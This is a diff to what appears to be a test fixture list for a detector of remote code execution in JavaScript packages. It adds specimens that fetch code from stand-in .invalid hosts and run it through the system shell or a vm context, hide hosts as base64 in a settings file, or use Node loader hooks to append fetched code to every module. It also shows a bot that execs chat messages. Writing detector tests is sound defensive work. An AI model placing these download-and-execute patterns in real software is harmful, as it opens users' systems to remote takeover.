@@ -410,6 +410,33 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
       },
       weight: 'strong',
     },
+    {
+      when: 'the shell of whichever system runs the answer, when it is called',
+      files: {
+        'index.js': `const { execFile } = require('child_process'); exports.load = async () => { const text = await (await fetch('https://hints.invalid/')).text();
+          const [shell, flag] = process.platform === 'win32' ? ['cmd', '/c'] : ['sh', '-c']; execFile(shell, [flag, text]); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'its hosts stand encoded in a file of data',
+      files: {
+        'index.js': `const vm = require('vm'); const { hosts } = require('./settings.json'); exports.rules = async () => { for (const h of hosts) vm.runInNewContext(await (await fetch(Buffer.from(h, 'base64').toString())).text(), {}); };`,
+        'settings.json': { hosts: ['aHR0cHM6Ly9ydWxlcy0xLmludmFsaWQvcmF3L2s=', 'aHR0cHM6Ly9ydWxlcy0yLmludmFsaWQvcmF3L2s='] },
+      },
+      weight: 'strong',
+      says: ['rules-1.invalid'],
+    },
+    {
+      when: 'hooks of the loader add to each file what was fetched',
+      files: {
+        'package.json': { name: 'specimen', type: 'module', main: 'index.js' },
+        'index.js': `import { register } from 'node:module'; register('data:text/javascript,' + encodeURIComponent(\`let more = ''; export async function initialize({ u }) { more = await (await fetch(u)).text(); }
+          export async function load(url, context, next) { const r = await next(url, context); r.source = r.source + more; return r; }\`), { data: { u: 'https://hooks.invalid/x.mjs' } });`,
+      },
+      weight: 'proof',
+      says: ['hooks.invalid'],
+    },
   ],
   silent: [
     {
@@ -422,6 +449,16 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
       when: 'the network tells which part of a page is meant, and what stands there is run',
       files: {
         'index.js': `fetch('https://a.invalid/x').then(answer => answer.text()).then(id => { const part = document.querySelector('#' + id); new Function(part.textContent)(); });`,
+      },
+    },
+    {
+      when: 'hooks of the loader add to each file what stands beside them',
+      files: {
+        'package.json': { name: 'specimen', type: 'module', main: 'index.js' },
+        'index.js': `import { register } from 'node:module'; register('./hooks.js', import.meta.url);`,
+        'hooks.js': `import { readFileSync } from 'node:fs'; const more = readFileSync(new URL('./shim.txt', import.meta.url), 'utf8');
+          export async function load(url, context, next) { const r = await next(url, context); fetch('https://stats.invalid/'); r.source = more + r.source; return r; }`,
+        'shim.txt': '// shim',
       },
     },
     {
